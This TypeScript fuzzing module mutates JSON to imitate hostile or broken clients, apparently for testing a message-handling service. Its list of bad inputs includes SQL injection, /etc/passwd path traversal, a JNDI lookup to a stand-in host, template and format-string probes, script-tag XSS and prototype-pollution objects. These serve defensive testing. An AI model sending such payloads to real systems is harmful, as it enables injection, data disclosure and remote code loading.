// Spoils JSON the way hostile or broken clients do: values of the wrong kind, fields missing, doubled, renamed, nested, text cut or flipped.
import type { Chance } from './chance.ts';

const nasty: readonly [unknown, ...unknown[]] = [
  null, true, false, 0, -1, 1.5, 1e308, 2 ** 53, '', ' ', '0', 'null', 'E-1', 'T-1001', 'X-1', 'E-1\' or 1=1 --', '../../etc/passwd', '${jndi:ldap://evil.test}', '{{7*7}}', '%s%n',
  '<at>everyone</at>', '[click](https://evil.test)', '<script>alert(1)</script>', '\u0000', '\r\n{"level":"error"}', '\u202Eevil', '\uD800', '👩‍👩‍👧‍👦', 'ﷺ', 'İ', 'a\u0301'.repeat(50),
  'x'.repeat(5_000), '한'.repeat(2_000), [], {}, [[]], [null], { length: -1 }, { length: {} }, { length: null }, { toString: 1 }, JSON.parse('{ "then": 1, "toJSON": "x" }'), { constructor: { prototype: { polluted: true } } },
  'manual', 'automatic', 'invoke', 'message', 'adaptiveCard/action', 'task/fetch', 'elevation/approve', 'elevation/reveal', 'toString', 'hasOwnProperty', 'valueOf',
];
const keys: readonly [string, ...string[]] = ['__proto__', 'constructor', 'prototype', 'toString', 'id', 'version', 'verb', 'data', 'value', 'text', 'type', 'then', 'length', '0', ''];

/** A spoilt copy: one to five things are wrong with it. */
export function mutate(value: unknown, chance: Chance): unknown {
  let spoilt = structuredClone(value);
  for (let faults = 1 + chance.below(5); faults > 0; faults -= 1) spoilt = once(spoilt, chance);
  return spoilt;
}

/** The JSON of it, now and then no JSON any more. */
export function garble(text: string, chance: Chance): string {
  const at = chance.below(text.length + 1);
  switch (chance.below(12)) {
    case 0: return text.slice(0, at);
    case 1: return text.slice(0, at) + String.fromCharCode(chance.below(0x10000)) + text.slice(at + 1);
    case 2: return text.slice(0, at) + text.slice(chance.below(text.length + 1));
    case 3: return text.replaceAll('"id"', '"__proto__"');
    default: return text;
  }
}

function once(value: unknown, chance: Chance): unknown {
  if (typeof value !== 'object' || value === null || chance.below(10) === 0) return chance.pick(nasty);
  if (Array.isArray(value)) {
    const at = chance.below(value.length + 1);
    return chance.below(2) === 0 ? [...value, ...value] : value.toSpliced(at, 1, once(value[at], chance));
  }
  const entries = Object.entries(value);
  const [key = 'value', held] = entries[chance.below(Math.max(entries.length, 1))] ?? [];
  const others = entries.filter(([name]) => name !== key);
  switch (chance.below(6)) {
    case 0: return Object.fromEntries(others);
    case 1: return Object.fromEntries([...others, [chance.pick(keys), held]]);
    case 2: return Object.fromEntries([...entries, [chance.pick(keys), chance.pick(nasty)]]);
    case 3: return Object.fromEntries([...others, [key, { [chance.pick(keys)]: held }]]);
    case 4: return Object.fromEntries([...others, [key, chance.pick(nasty)]]);
    default: return Object.fromEntries([...others, [key, once(held, chance)]]);
  }
}
